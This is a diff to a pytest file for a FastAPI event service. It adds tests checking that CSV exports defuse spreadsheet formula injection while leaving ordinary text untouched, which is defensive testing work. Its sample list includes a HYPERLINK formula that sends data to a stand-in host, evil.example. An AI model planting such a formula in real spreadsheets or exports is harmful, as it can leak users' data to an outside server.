@@ -7,12 +7,13 @@ it is parsed; a write without a key is refused before its body is read.
 
 from __future__ import annotations
 
+import csv
 import json
 
 import pytest
 from fastapi.testclient import TestClient
 
-from tests.factories import source_body
+from tests.factories import SOURCE_ID, source_body
 
 PROBLEM = "application/problem+json"
 
@@ -198,3 +199,71 @@ def test_the_new_problem_types_have_pages(client: TestClient, slug: str) -> None
 
     assert page.status_code == 200
     assert page.json()["type"] == f"/problems/{slug}"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak","click me")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
+
+
+def _statement(quote: str, role: str) -> dict[str, object]:
+    return {
+        "type": "statement.issued",
+        "provenance": {
+            "source_id": SOURCE_ID,
+            "locator": f"Officials said: {quote}",
+            "reporting_basis": "official_statement",
+        },
+        "data": {
+            "speaker": {"role": role},
+            "quote": quote,
+            "language": "en",
+            "issued_on": "2023-04-25",
+        },
+    }
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
+    client: TestClient, writer: dict[str, str]
+) -> None:
+    client.post("/v1/events", json=source_body(), headers=writer)
+    for formula in FORMULAS:
+        response = client.post("/v1/events", json=_statement(formula, formula), headers=writer)
+        assert response.status_code == 201, response.text
+
+    table = client.get("/v1/statements?format=csv")
+
+    assert table.status_code == 200
+    # A bare CR inside a cell is written unquoted (lineterminator "\n"): read as lines.
+    cells = [
+        cell for row in csv.reader(table.text.replace("\r", "<CR>").splitlines()) for cell in row
+    ]
+    assert not [
+        cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t") or cell.startswith("<CR>")
+    ]
+    for formula in FORMULAS:
+        assert "'" + formula.replace("\r", "<CR>") in cells
+    # The JSON keeps the words as they were reported.
+    quotes = {s["quote"] for s in client.get("/v1/statements").json()["statements"]}
+    assert set(FORMULAS) <= quotes
+
+
+def test_numbers_in_csv_stay_numbers_and_plain_text_is_untouched(
+    client: TestClient, writer: dict[str, str]
+) -> None:
+    client.post("/v1/events", json=source_body(), headers=writer)
+    client.post(
+        "/v1/events",
+        json=_statement("Cooperation - in labour - will grow.", "officials"),
+        headers=writer,
+    )
+
+    text = client.get("/v1/statements?format=csv").text
+
+    assert "Cooperation - in labour - will grow." in text
+    assert "'Cooperation" not in text
